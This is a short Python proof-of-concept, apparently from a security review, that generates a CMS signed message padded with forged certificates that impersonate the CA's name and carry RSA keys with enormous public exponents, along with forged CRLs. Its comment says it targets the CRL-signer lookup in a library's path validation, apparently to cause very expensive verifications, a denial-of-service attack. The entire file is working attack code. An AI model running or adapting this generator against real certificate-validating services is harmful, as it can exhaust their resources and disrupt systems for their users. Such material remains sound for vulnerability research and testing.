# A message whose certificates carry RSA keys with a huge public exponent,
# tried as alternative CRL signers for forged CRLs (lib/path.c crl_signed).
import sys, os, random, subprocess
sys.path.insert(0, '/work/review-findings/lib')
from mkcert import *
NBITS = int(os.environ.get('NBITS', '16384'))
NCERTS = int(sys.argv[1]); NCRLS = int(sys.argv[2]); out = sys.argv[3]
rnd = random.Random(1)
ca = load_cert(PKI + '/ca.pem')
ca_name = ca.subject.public_bytes()
def bigkey():
    n = rnd.getrandbits(NBITS) | (1 << (NBITS - 1)) | 1
    e = rnd.getrandbits(NBITS - 1) | (1 << (NBITS - 2)) | 1
    rsakey = SEQ(INT(n), INT(e))
    return SEQ(SEQ(OID('1.2.840.113549.1.1.1'), NULL()), BIT(rsakey)), n
certs = []
for i in range(NCERTS):
    spk, n = bigkey()
    # same subject as the CA, no keyUsage (so "may sign CRLs"), junk signature
    tbs = SEQ(EXP(0, INT(2)), INT(1000 + i), SHA256RSA, ca_name,
              SEQ(UTC('250101000000Z'), UTC('341230000000Z')), ca_name, spk)
    certs.append(SEQ(tbs, SHA256RSA, BIT(b'\x01' * 256)))
crls = []
for i in range(NCRLS):
    tbs = SEQ(INT(1), SHA256RSA, ca_name, UTC('250101%02d%02d00Z' % (i // 60, i % 60)), UTC('491231000000Z'))
    crls.append(SEQ(tbs, SHA256RSA, BIT(b'\x01' * (NBITS // 8))))
open('extra-certs.pem', 'w').write(''.join(pem(c) for c in certs))
open('extra-crls.pem', 'w').write(''.join(pem(c, 'X509 CRL') for c in crls))
from mkcms import *
content = b'hello\r\n'
signer = cert_der(PKI + '/direct.pem')
si = signer_info(content, signer, load_key(PKI + '/direct.key'))
open(out, 'wb').write(signed_data(content, [si], [signer] + certs, crls))
